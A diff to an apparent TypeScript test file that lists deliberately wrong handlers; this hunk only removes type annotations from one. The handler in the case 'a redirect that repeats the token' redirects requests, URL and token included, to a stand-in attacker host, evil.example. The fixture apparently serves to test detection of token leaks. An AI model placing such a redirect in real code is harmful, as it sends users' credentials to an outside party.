@@ -71,10 +71,7 @@ const wrong: [string, Faults][] = [
   [
     'a redirect that repeats the token',
     {
-      info: (
-        request: { url?: string | undefined },
-        response: { writeHead(status: number, headers: object): { end(): void } },
-      ) => {
+      info: (request, response) => {
         response.writeHead(302, { location: `https://evil.example${request.url ?? ''}` }).end()
       },
     },
